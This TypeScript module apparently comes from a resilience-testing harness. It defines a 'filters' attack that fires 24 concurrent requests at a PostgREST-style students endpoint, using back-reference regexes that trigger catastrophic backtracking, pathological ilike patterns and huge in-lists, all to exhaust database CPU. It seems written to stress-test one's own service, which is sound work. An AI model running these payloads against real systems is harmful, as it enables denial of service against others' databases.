/** Filters that cost a processor minutes: back-references in regular expressions, 24 at once, and lists of thousands. */
import { randomUUID } from 'node:crypto';
import { pick } from '../../chance.ts';
import type { Attack } from '../attack.ts';
import { signed } from '../headers.ts';
import { bounded } from '../record.ts';
import { send } from '../request.ts';

const MOST = 16 * 1_048_576;
const AT_ONCE = 24;
/** Of a request line that Node still reads. */
const LONGEST_LIST = 380;

/**
 * Nothing matches a name of an odd length, and only trying every division shows it: `(a+)` five times, then the same again.
 * The automaton that PostgreSQL tries first takes a back-reference for anything, so it rules nothing out.
 */
const TWICE = String.raw`^(a+)(a+)(a+)(a+)(a+)\1\2\3\4\5$`;
const slow = encodeURIComponent(TWICE);
const quoted = encodeURIComponent(`"${TWICE.replaceAll('\\', '\\\\')}"`);

const FILTERS: readonly (() => string)[] = [
  () => `first_name=imatch.${slow}`,
  () => `first_name=match.${slow}`,
  () => `first_name=not.imatch.${slow}`,
  () => `or=(first_name.imatch.${quoted},last_name.match.${quoted})`,
  () => `first_name=ilike.${'*a'.repeat(30)}*b`,
  () => `id=in.(${Array.from({ length: LONGEST_LIST }, () => randomUUID()).join(',')})`,
  () => `or=(${Array.from({ length: LONGEST_LIST }, () => `id.eq.${randomUUID().slice(0, 30)}`).join(',')})`,
];

export const filters: Attack = {
  name: 'filters',
  sends: '`imatch` with back-references and other slow filters, 24 at once; `in.(…)` of 14 KB',
  unharmed: '4xx, 503, or an answer within its time',
  lanes: 1,
  pauseMs: 500,
  async strike(scene) {
    const { target, record, random, address, share, signal } = scene;
    const from = address();
    await Promise.all(
      Array.from({ length: share(AT_ONCE) }, async () => {
        const path = `/rest/v1/students?select=id&${pick(FILTERS, random)()}`;
        const answer = await send(target.url, { from, path, headers: signed(scene), signal });
        record.answer(`GET ${path}`, answer, bounded(MOST));
      }),
    );
  },
};
